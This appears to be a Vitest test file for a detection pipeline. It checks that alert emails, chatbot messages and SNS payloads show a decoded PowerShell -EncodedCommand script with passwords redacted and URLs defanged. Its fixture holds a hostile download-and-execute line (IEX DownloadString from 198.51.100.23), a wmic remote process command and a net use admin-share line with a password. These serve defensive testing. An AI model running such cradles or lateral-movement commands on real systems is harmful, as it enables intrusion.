import { describe, expect, it } from 'vitest';
import { createDetector, DEFAULT_ALLOWLIST } from '../../lambda/detect/index.js';
import { WMIC_REMOTE_EXEC } from '../../lambda/hunts/index.js';
import { renderChatbot, renderDefault, renderEmail } from '../../lambda/notify/index.js';
import { makeContext, makeFinding } from '../fixtures/notify/findings.js';

const ctx = makeContext();
const SCRIPT = "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://198.51.100.23/a.ps1') # \u202Ehidden\nnet use \\\\fs01\\c$ /password:Hunter22";

/** The finding the detector builds for a wmic line whose payload is `powershell -enc <SCRIPT>`. */
function encodedFinding() {
  const b64 = Buffer.from(SCRIPT, 'utf16le').toString('base64');
  const line = `wmic /node:FS01 process call create "powershell.exe -nop -w hidden -enc ${b64}"`;
  const { findings } = createDetector({ hunt: WMIC_REMOTE_EXEC, allowlist: DEFAULT_ALLOWLIST })(
    [{ event_id: 'e1', agent_hostname: 'WKS-1', action_process_image_name: 'wmic.exe', action_process_image_command_line: line, _time: 1 }], 1);
  return makeFinding({ ...findings[0]!, count: 1, status: 'PENDING' });
}

describe('the decoded -EncodedCommand script in notifications', () => {
  it('shows a "Decoded PowerShell" block in the email, one visible line per script line, password redacted', () => {
    const { body } = renderEmail(encodedFinding(), ctx);
    expect(body).toContain([
      'DECODED POWERSHELL (-EncodedCommand, passwords redacted)',
      '  | $c = New-Object Net.WebClient',
      "  | IEX $c.DownloadString('hxxp://198[.]51[.]100[.]23/a.ps1') # [U+202E]hidden",
      // the detector's `***`, masked again by the notifier's own redaction
      '  | net use \\\\fs01\\c$ /password:[REDACTED]',
    ].join('\n'));
    expect(body).not.toContain('Hunter22');
    expect(body).not.toContain('\u202E');
  });

  it('puts a short one-line form in the Chatbot description and the script in the SNS default JSON', () => {
    const f = encodedFinding();
    const n = renderChatbot(f, ctx);
    expect(n.content.description).toContain('*Decoded PowerShell:*\n```\n$c = New-Object Net.WebClient ⏎ IEX');
    expect(n.content.description).not.toContain('Hunter22');
    const p = renderDefault(f, ctx) as Record<string, unknown>;
    expect(p['decodedScript']).toEqual({ value: f.decodedScript!.replace('/password:***', '/password:[REDACTED]'), truncated: false, length: f.decodedScript!.length });
    expect(JSON.stringify(p)).not.toContain('Hunter22');
  });

  it('leaves the block out, and sends decodedScript null, when there is no encoded command', () => {
    const f = makeFinding();
    expect(renderEmail(f, ctx).body).not.toContain('DECODED POWERSHELL');
    expect(renderChatbot(f, ctx).content.description).not.toContain('Decoded PowerShell');
    expect((renderDefault(f, ctx) as Record<string, unknown>)['decodedScript']).toEqual({ value: null, truncated: false, length: 0 });
  });
});
